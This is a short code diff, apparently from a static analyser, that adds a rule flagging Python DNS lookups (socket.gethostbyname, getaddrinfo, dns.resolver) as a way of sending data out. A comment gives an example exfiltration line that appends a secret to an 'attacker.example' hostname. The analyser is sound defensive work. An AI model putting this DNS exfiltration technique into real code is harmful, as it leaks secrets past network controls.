@@ -63,6 +63,11 @@ export function socketCall(r: PythonReader, c: PythonCall): Value | undefined {
     r.sockets.dup ??= at;
     return NOTHING;
   }
+  // A name looked up carries what it is built from to the name servers: `gethostbyname(secret + '.attacker.example')`.
+  if (/^socket\.(?:gethostbyname|gethostbyname_ex|getaddrinfo)$|^dns\.resolver\.(?:resolve|query)$|^dns\.resolver\.Resolver\.(?:resolve|query)$/.test(ref)) {
+    send(r, node, 'sends it inside a DNS name', `//${arg0.text}`, arg0);
+    return NOTHING;
+  }
   if (/^smtplib\.SMTP(?:_SSL)?$/.test(ref)) return { ...literal(arg0.text), ref: 'smtplib.conn' };
   if (/^smtplib\.conn\.(?:sendmail|send_message)$/.test(ref)) {
     send(r, node, 'mails it', `//${receiver.text}`, all);
